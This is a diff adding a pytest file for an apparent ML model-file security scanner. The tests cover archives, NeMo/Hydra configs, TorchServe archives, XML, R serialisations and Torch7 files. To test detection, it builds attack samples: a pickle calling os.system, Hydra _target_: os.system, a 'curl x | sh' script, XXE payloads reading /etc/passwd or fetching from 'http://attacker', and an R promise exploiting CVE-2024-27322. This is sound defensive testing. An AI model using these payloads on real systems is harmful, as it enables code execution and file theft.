@@ -1,0 +1,461 @@
+"""Formats of the table in ``supplychain/formats``: archives (7z, zstd, lz4, RAR,
+encrypted zip), code-carrying formats (NeMo/Hydra, TorchServe, XML, R, Torch7) and
+executables. Archives are written by their real libraries (py7zr, zstandard, lz4);
+R and Torch7 files, whose writers do not install here, byte-exact to their published
+formats (R's serialize.c, torch7's File.lua). Nothing is ever loaded: canaries are
+plain strings a loader would run."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import pickle
+import shutil
+import struct
+import tarfile
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from mlwarden.supplychain import Verdict, scan_bytes, scan_file
+
+CANARY = "echo CANARY"
+
+
+class _Evil:
+    def __reduce__(self) -> tuple:
+        return (os.system, (CANARY,))
+
+
+EVIL = pickle.dumps(_Evil())
+
+
+def _npy() -> bytes:
+    buf = io.BytesIO()
+    np.save(buf, np.arange(16, dtype=np.float32))
+    return buf.getvalue()
+
+
+def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode=mode) as t:  # type: ignore[call-overload]
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _rules(res: object) -> set[str]:
+    return {i.rule for i in res.findings}  # type: ignore[attr-defined]
+
+
+# --- archives ---------------------------------------------------------------------------
+
+
+def _7z(tmp_path: Path, members: dict[str, bytes], **kw: object) -> Path:
+    py7zr = pytest.importorskip("py7zr")
+    path = tmp_path / "a.7z"
+    with py7zr.SevenZipFile(path, "w", **kw) as z:
+        for name, data in members.items():
+            z.writestr(data, name)
+    return path
+
+
+def test_pickle_inside_7z_is_unsafe(tmp_path: Path) -> None:
+    res = scan_file(_7z(tmp_path, {"w.npy": _npy(), "sub/model.pkl": EVIL}))
+    assert res.verdict is Verdict.UNSAFE
+    assert any(i.member == "sub/model.pkl" and i.rule == "MLW-SCN-001" for i in res.findings)
+
+
+def test_benign_7z_is_safe(tmp_path: Path) -> None:
+    res = scan_file(_7z(tmp_path, {"w.npy": _npy(), "config.json": b'{"a": 1}'}))
+    assert res.verdict is Verdict.SAFE and res.format == "7z"
+
+
+@pytest.mark.parametrize("header", [False, True])
+def test_encrypted_7z_is_an_error_never_safe(tmp_path: Path, header: bool) -> None:
+    path = _7z(tmp_path, {"w.npy": _npy()}, password="pw", header_encryption=header)
+    res = scan_file(path)
+    assert res.verdict is Verdict.ERROR and "encrypted" in (res.error or "")
+
+
+def test_7z_declaring_more_than_the_budget_is_not_extracted(tmp_path: Path) -> None:
+    from mlwarden.supplychain import Limits
+
+    path = _7z(tmp_path, {"zeros.bin": bytes(4 << 20)})
+    res = scan_file(path, limits=Limits(archive_floor=1 << 20, archive_ratio=2.0))
+    assert any(i.rule == "MLW-SCN-010" for i in res.findings)
+    assert res.verdict is not Verdict.SAFE
+
+
+@pytest.mark.parametrize("kind", ["zstd", "lz4"])
+def test_pickle_in_compressed_tar_is_unsafe(kind: str) -> None:
+    raw = _tar([("w.npy", _npy()), ("model.pkl", EVIL)])
+    if kind == "zstd":
+        import zstandard
+
+        data = zstandard.ZstdCompressor().compress(raw)
+    else:
+        import lz4.frame
+
+        data = lz4.frame.compress(raw)
+    res = scan_bytes(data)
+    assert res.verdict is Verdict.UNSAFE and res.format == f"tar+{kind}"
+
+
+def test_zstd_bomb_stops_at_the_budget() -> None:
+    import zstandard
+
+    from mlwarden.supplychain import Limits
+
+    tar = _tar([("zeros.bin", bytes(8 << 20)), ("model.pkl", EVIL)])
+    data = zstandard.ZstdCompressor().compress(tar)
+    assert len(data) < 4096
+    res = scan_bytes(data, limits=Limits(max_total_bytes=1 << 20))
+    assert res.verdict is Verdict.ERROR and "limit" in (res.error or "")
+
+
+@pytest.mark.parametrize("kind", ["zstd", "lz4"])
+def test_truncated_frame_is_an_error(kind: str) -> None:
+    import lz4.frame
+    import zstandard
+
+    raw = _tar([("w.npy", _npy())])
+    data = zstandard.ZstdCompressor().compress(raw) if kind == "zstd" else lz4.frame.compress(raw)
+    assert scan_bytes(data).verdict is Verdict.SAFE
+    assert scan_bytes(data[: len(data) - 9]).verdict is Verdict.ERROR
+
+
+@pytest.mark.parametrize("kind", ["zstd", "lz4"])
+def test_frames_back_to_back_are_all_scanned(kind: str) -> None:
+    import lz4.frame
+    import zstandard
+
+    def pack(b: bytes) -> bytes:
+        return zstandard.ZstdCompressor().compress(b) if kind == "zstd" else lz4.frame.compress(b)
+
+    tar = _tar([("w.npy", _npy()), ("model.pkl", EVIL)])
+    assert scan_bytes(pack(tar[:1000]) + pack(tar[1000:])).verdict is Verdict.UNSAFE
+
+
+def test_rar_is_not_scannable() -> None:
+    res = scan_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(200))
+    assert res.verdict is Verdict.ERROR and "RAR" in (res.error or "")
+
+
+def test_encrypted_zip_member_is_not_scannable() -> None:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("weights.bin", os.urandom(256))  # ciphertext looks like this
+    raw = bytearray(buf.getvalue())
+    raw[6] |= 1
+    cd = raw.find(b"PK\x01\x02")
+    raw[cd + 8] |= 1
+    res = scan_bytes(bytes(raw))
+    assert res.verdict is Verdict.ERROR and "encrypted" in (res.error or "")
+
+
+def test_encryption_flag_on_a_readable_member_is_still_scanned() -> None:
+    """miniz (torch.load) ignores the flag: a plain pickle behind it is scanned as one."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("archive/data.pkl", EVIL)
+    raw = bytearray(buf.getvalue())
+    raw[6] |= 1
+    raw[raw.find(b"PK\x01\x02") + 8] |= 1
+    assert scan_bytes(bytes(raw)).verdict is Verdict.UNSAFE
+
+
+# --- executables ------------------------------------------------------------------------
+
+
+def test_elf_binary_is_flagged(tmp_path: Path) -> None:
+    true = shutil.which("true")
+    assert true is not None
+    res = scan_file(true)
+    assert res.format == "elf" and "MLW-SCN-020" in _rules(res)
+    assert res.verdict is Verdict.SUSPICIOUS
+
+
+def test_pe_and_script_inside_a_zip_are_flagged() -> None:
+    pe = bytearray(512)
+    pe[:2] = b"MZ"
+    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
+    pe[0x80:0x84] = b"PE\x00\x00"
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("tool.dll", bytes(pe))
+        z.writestr("run", b"#!/bin/sh\ncurl x | sh\n")
+    res = scan_bytes(buf.getvalue())
+    flagged = {i.member for i in res.findings if i.rule == "MLW-SCN-020"}
+    assert flagged == {"tool.dll", "run"}
+
+
+def test_llamafile_is_flagged_and_its_gguf_scanned() -> None:
+    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("model.gguf", gguf)
+        z.writestr("evil.pkl", EVIL)
+    ape = b"MZqFpD='\n" + bytes(600) + buf.getvalue()
+    res = scan_bytes(ape)
+    assert res.format == "zip" or res.format == "llamafile"
+    assert "MLW-SCN-020" in _rules(res) and res.verdict is Verdict.UNSAFE
+
+
+def test_java_class_is_not_mistaken_for_mach_o() -> None:
+    res = scan_bytes(b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100))
+    assert "MLW-SCN-020" not in _rules(res)
+
+
+# --- NeMo / Hydra -----------------------------------------------------------------------
+
+NEMO_CFG = b"""sample_rate: 16000
+preprocessor:
+  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
+  window_size: 0.025
+optim:
+  name: adam
+  sched:
+    _target_: torch.optim.lr_scheduler.CosineAnnealingLR
+"""
+
+
+def test_benign_nemo_checkpoint_is_safe() -> None:
+    data = _tar([("./model_config.yaml", NEMO_CFG), ("./w.npy", _npy())], mode="w:gz")
+    assert scan_bytes(data).verdict is Verdict.SAFE
+
+
+def test_nemo_target_os_system_is_unsafe_with_the_reason() -> None:
+    cfg = NEMO_CFG + b'decoder:\n  head:\n    _target_: os.system\n    _args_: ["echo CANARY"]\n'
+    res = scan_bytes(_tar([("./model_config.yaml", cfg)], mode="w:gz"))
+    assert res.verdict is Verdict.UNSAFE
+    (hit,) = [i for i in res.findings if i.rule == "MLW-SCN-021"]
+    assert "decoder.head" in hit.message and "os.system" in hit.message
+    assert hit.member == "./model_config.yaml"
+
+
+@pytest.mark.parametrize(
+    ("target", "verdict"),
+    [
+        ("builtins.exec", Verdict.UNSAFE),
+        ("hydra.utils.get_method", Verdict.UNSAFE),
+        ("subprocess.run", Verdict.UNSAFE),
+        ("mypkg.layers.Custom", Verdict.SUSPICIOUS),
+        ("nemo.collections.nlp.models.TextClassificationModel", Verdict.SAFE),
+    ],
+)
+def test_hydra_targets_are_classified(target: str, verdict: Verdict) -> None:
+    # first key starting with 't': the text first goes through the pickle probe
+    doc = f"trainer:\n  x:\n    - _target_: {target}\n      _partial_: true\n".encode()
+    assert scan_bytes(doc, name="cfg.yaml").verdict is verdict
+
+
+def test_yaml_alias_bomb_is_walked_once() -> None:
+    lines = ["a0: &a0 {_target_: torch.nn.ReLU}"]
+    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 40)]
+    res = scan_bytes("\n".join(lines).encode() + b"\n")
+    assert res.verdict is Verdict.SAFE and res.seconds < 5
+
+
+# --- TorchServe -------------------------------------------------------------------------
+
+
+def _mar(handler: str, **model: str) -> bytes:
+    manifest = {
+        "createdOn": "06/12/2026",
+        "runtime": "python",
+        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": handler, **model},
+        "archiverVersion": "0.12.0",
+    }
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
+        z.writestr("handler.py", "import os\nos.system('echo CANARY')\n")
+    return buf.getvalue()
+
+
+def test_torchserve_custom_handler_and_requirements_are_flagged() -> None:
+    res = scan_bytes(_mar("handler.py", requirementsFile="requirements.txt"))
+    messages = [i.message for i in res.findings if i.rule == "MLW-SCN-025"]
+    assert any("handler.py" in m for m in messages)
+    assert any("requirements.txt" in m for m in messages)
+    assert res.verdict is Verdict.SUSPICIOUS
+
+
+def test_torchserve_builtin_handler_is_safe() -> None:
+    assert scan_bytes(_mar("image_classifier")).verdict is Verdict.SAFE
+
+
+# --- XML --------------------------------------------------------------------------------
+
+PMML = b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>\n'
+
+
+def test_benign_pmml_and_openvino_ir_are_safe() -> None:
+    res = scan_bytes(b'<?xml version="1.0"?>\n' + PMML)
+    assert res.verdict is Verdict.SAFE and res.format == "pmml"
+    ir = b'<?xml version="1.0"?>\n<net name="m" version="11"><layers/></net>\n'
+    res = scan_bytes(ir)
+    assert res.verdict is Verdict.SAFE and res.format == "openvino-ir"
+
+
+@pytest.mark.parametrize(
+    ("doc", "verdict"),
+    [
+        (b'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>', "unsafe"),
+        (b'<!DOCTYPE P [<!ENTITY % d SYSTEM "http://h/x.dtd"> %d;]><P/>', "unsafe"),
+        (b'<!DOCTYPE PMML SYSTEM "http://attacker/x.dtd"><PMML/>', "suspicious"),
+        (b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>', "suspicious"),
+        (
+            b'<net xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>'
+            b"</net>",
+            "unsafe",
+        ),
+    ],
+)
+def test_xml_that_reaches_outside_is_flagged(doc: bytes, verdict: str) -> None:
+    res = scan_bytes(b'<?xml version="1.0"?>\n' + doc)
+    assert res.verdict.value == verdict and "MLW-SCN-022" in _rules(res)
+
+
+def test_doctype_behind_a_long_comment_is_found() -> None:
+    doc = b"<!--" + b"x" * (3 << 20) + b'-->\n<!DOCTYPE P [<!ENTITY x SYSTEM "file:///e">]><P/>'
+    assert scan_bytes(b'<?xml version="1.0"?>\n' + doc).verdict is Verdict.UNSAFE
+
+
+# --- R serialisations (R's serialize.c, XDR format) -------------------------------------
+
+
+def _i(n: int) -> bytes:
+    return struct.pack(">i", n)
+
+
+def _char(text: str) -> bytes:
+    data = text.encode()
+    return _i(9 | (64 << 12)) + _i(len(data)) + data
+
+
+def _sym(name: str) -> bytes:
+    return _i(1) + _char(name)
+
+
+NIL, GLOBALENV, UNBOUND = _i(254), _i(253), _i(252)
+
+
+def _strs(*items: str) -> bytes:
+    return _i(16) + _i(len(items)) + b"".join(_char(s) for s in items)
+
+
+def _call(fn: str, *args: bytes) -> bytes:
+    out = _i(6) + _sym(fn)
+    for a in args:
+        out += _i(2) + a
+    return out + NIL
+
+
+def _named_list(**items: bytes) -> bytes:
+    out = _i(19 | (1 << 9)) + _i(len(items)) + b"".join(items.values())
+    return out + _i(2 | (1 << 10)) + _sym("names") + _strs(*items) + NIL
+
+
+def _rds(body: bytes, version: int = 3) -> bytes:
+    enc = _i(5) + b"UTF-8" if version == 3 else b""
+    return b"X\n" + _i(version) + _i(0x040300) + _i(0x030500) + enc + body
+
+
+COEF = _i(14) + _i(3) + struct.pack(">3d", 0.5, -1.0, 2.0)
+
+
+def test_r_data_object_is_safe() -> None:
+    body = _named_list(coefficients=COEF, call=_call("lm", _sym("y")), names=_strs("a", "b"))
+    res = scan_bytes(gzip.compress(_rds(body)))
+    assert res.verdict is Verdict.SAFE and res.format == "rds+gzip"
+
+
+def test_r_closure_calling_system_is_unsafe() -> None:
+    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("system", _strs(CANARY))
+    res = scan_bytes(gzip.compress(_rds(_named_list(coefficients=COEF, predict=closure))))
+    assert res.verdict is Verdict.UNSAFE
+    assert any("system" in i.message for i in res.findings if i.rule == "MLW-SCN-023")
+
+
+def test_r_plain_closure_is_suspicious() -> None:
+    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("exp", _sym("x"))
+    assert scan_bytes(_rds(closure, version=2)).verdict is Verdict.SUSPICIOUS
+
+
+def test_r_promise_is_unsafe_cve_2024_27322() -> None:
+    promise = _i(5 | (1 << 10)) + GLOBALENV + UNBOUND + _call("print", _strs("x"))
+    res = scan_bytes(_rds(_named_list(value=promise)))
+    assert res.verdict is Verdict.UNSAFE and "CVE-2024-27322" in res.findings[0].message
+
+
+def test_rdata_file_is_walked() -> None:
+    promise = _i(5 | (1 << 10)) + GLOBALENV + UNBOUND + _call("system", _strs(CANARY))
+    rda = b"RDX3\n" + _rds(_i(2 | (1 << 10)) + _sym("model") + promise + NIL)
+    import bz2
+
+    res = scan_bytes(bz2.compress(rda))
+    assert res.verdict is Verdict.UNSAFE and res.format == "rdata+bz2"
+
+
+def test_truncated_r_file_is_an_error() -> None:
+    data = _rds(_named_list(coefficients=COEF))
+    assert scan_bytes(data[:-12]).verdict is Verdict.ERROR
+
+
+def test_r_nesting_bomb_is_an_error_not_a_crash() -> None:
+    deep = (_i(19) + _i(1)) * 5000 + NIL
+    res = scan_bytes(_rds(deep))
+    assert res.verdict is Verdict.ERROR and "nested" in (res.error or "")
+
+
+# --- Torch7 (torch7 File.lua, binary mode) ----------------------------------------------
+
+
+def _li(n: int) -> bytes:
+    return struct.pack("<i", n)
+
+
+def _ls(text: bytes) -> bytes:
+    return _li(len(text)) + text
+
+
+def _t7_obj(index: int, cls: bytes, fields: bytes) -> bytes:
+    return _li(4) + _li(index) + _ls(b"V 1") + _ls(cls) + fields
+
+
+def _t7_linear(extra: bytes = b"", count: int = 1) -> bytes:
+    storage = _li(4) + _li(4) + _ls(b"V 1") + _ls(b"torch.FloatStorage")
+    storage += struct.pack("<q", 3) + bytes(12)
+    tensor = _t7_obj(3, b"torch.FloatTensor", _li(1) + struct.pack("<qqq", 3, 1, 1) + storage)
+    table = _li(3) + _li(2) + _li(count) + _li(2) + _ls(b"weight") + tensor + extra
+    return _t7_obj(1, b"nn.Linear", table)
+
+
+def test_torch7_model_is_safe() -> None:
+    res = scan_bytes(_t7_linear())
+    assert res.verdict is Verdict.SAFE and res.format == "torch7"
+
+
+def test_torch7_function_is_unsafe() -> None:
+    fn = _li(2) + _ls(b"forward") + _li(8) + _li(9) + _ls(b"\x1bLJ\x02bytecode") + _li(0)
+    res = scan_bytes(_t7_linear(fn, count=2))
+    assert res.verdict is Verdict.UNSAFE and "MLW-SCN-024" in _rules(res)
+
+
+def test_torch7_foreign_class_is_suspicious() -> None:
+    obj = _li(2) + _ls(b"layer") + _t7_obj(9, b"evil.Layer", _li(3) + _li(10) + _li(0))
+    res = scan_bytes(_t7_linear(obj, count=2))
+    assert res.verdict is Verdict.SUSPICIOUS
+    assert any(i.global_ == "evil.Layer" for i in res.findings)
+
+
+def test_truncated_torch7_is_an_error() -> None:
+    assert scan_bytes(_t7_linear()[:-20]).verdict is Verdict.ERROR
